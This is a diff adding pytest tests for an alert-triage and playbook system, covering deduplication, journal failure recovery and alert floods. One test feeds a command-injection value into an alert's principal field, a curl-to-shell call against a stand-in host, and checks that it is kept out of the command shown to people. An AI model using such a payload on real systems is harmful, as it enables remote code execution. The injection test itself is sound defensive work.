@@ -1,0 +1,107 @@
+"""Whoever holds one alert secret, and knows how this works: he neither hides the real alert nor puts words into our mouth."""
+
+import asyncio
+
+import pytest
+
+from journal.errors import JournalFailed
+from tests.triggers.alerts.alert_house import PLAYBOOK, alert
+
+OURS = "ringfence@acme.example"
+ALL = {
+    "principals": [{"kind": "user", "id": "u-1"}],
+    "credentials": [{"kind": "oauth_client", "id": "c-1", "client_id": "drift-prod"}],
+}
+
+
+@pytest.mark.parametrize(
+    "first",
+    [
+        {"type": "noise"}, {"app": None}, {"app": "nobodys"}, {"severity_label": "unknown", "severity": 100},
+        {"principals": [*ALL["principals"], {"kind": "api_client", "id": OURS}]}, {"status": "resolved"},
+    ],
+    ids=["another type", "no best app", "another app", "no word for it", "names us", "resolved"],
+)  # fmt: skip
+async def test_an_id_that_he_announced_before_hides_no_real_alert(house, first):
+    async with house(identity={"practice_idp": [OURS]}) as it:
+        await it.acts({**alert("X", severity=100, **ALL), **first})
+        assert it.runs() == []
+        *_, act = await it.acts(alert("X", principals=ALL["principals"]))
+        assert act.word == "started"
+
+
+async def test_the_command_that_people_are_told_holds_no_text_of_his(house):
+    playbook = PLAYBOOK.replace("inputs:\n", "inputs:\n  who: {type: text}\n").replace(
+        'with: {integration: "${alert.app}"}', 'with: {integration: "${alert.app}", who: "${alert.principal}"}', 1
+    )
+    async with house(playbook=playbook) as it:
+        (act,) = await it.acts(alert(principal="$(curl${IFS}evil.example|sh)"))
+        assert act.word == "proposed"
+        await asyncio.sleep(0.3)
+        told = "\n".join(it.told)
+        assert "-i integration=drift" in told
+        assert "evil" not in told
+        assert "-i who=..." in told
+
+
+async def test_the_loudest_alarm_is_not_lost_where_the_journal_was_away(house, monkeypatch):
+    async with house(identity={"practice_idp": [OURS]}) as it:
+        record, failed = it.journal.record, []
+
+        async def once(*drafts):
+            if drafts and drafts[0].type == "our_credential" and not failed:
+                failed.append(1)
+                raise JournalFailed("away")
+            return await record(*drafts)
+
+        monkeypatch.setattr(it.journal, "record", once)
+        await it.acts(alert(principal=OURS, app="calendar-sync", type="client.enable"))
+        await asyncio.sleep(0.3)
+        assert failed
+        assert len(it.events("our_credential")) == 1
+        assert any("OUR OWN CREDENTIAL" in line for line in it.told)
+
+
+async def test_a_flood_keeps_nothing_waiting_that_a_dead_service_left(house):
+    """Rows that are nobody's are taken too while something of another sender is always at hand."""
+    async with house(sources={"okta": {"secrets": ["env:ALERT_SECRET"], "auto": "hold"},
+                              "noise": {"source": "okta", "secrets": ["env:ALERT_SECRET"]}}) as it:  # fmt: skip
+        take_in, number, left = it.alerts._take_in, 0, asyncio.Event()
+
+        async def flooded(rows, taken):
+            nonlocal number
+            number += 1
+            await left.wait()
+            await it.deliver(alert("N", type="noise"), name="noise", delivery=f"d{number}")
+            await take_in(rows, taken)
+
+        it.alerts._take_in = flooded
+        while not it.alerts.inbox.acting:
+            await asyncio.sleep(0.01)
+        await it.deliver(alert("N", type="noise"), name="noise")
+        it.alerts.inbox.acting = False
+        await it.deliver(alert("LEFT"), name="okta")  # nobody's, as after a crash
+        it.alerts.inbox.acting = True
+        left.set()
+        async with asyncio.timeout(20):
+            while not it.runs():
+                await asyncio.sleep(0.05)
+        it.alerts._take_in = take_in
+
+
+async def test_a_hiccup_of_the_journal_delays_what_was_taken_by_no_minute(house, monkeypatch):
+    async with house() as it:
+        rows = await it.alerts.inbox.rows()
+        sift, failed = rows.sift, []
+
+        async def once(deliveries):
+            if not failed:
+                failed.append(1)
+                raise JournalFailed("away")
+            return await sift(deliveries)
+
+        monkeypatch.setattr(rows, "sift", once)
+        await it.deliver(alert())
+        (act,) = await it.settled(20)
+        assert failed
+        assert act.word == "started"
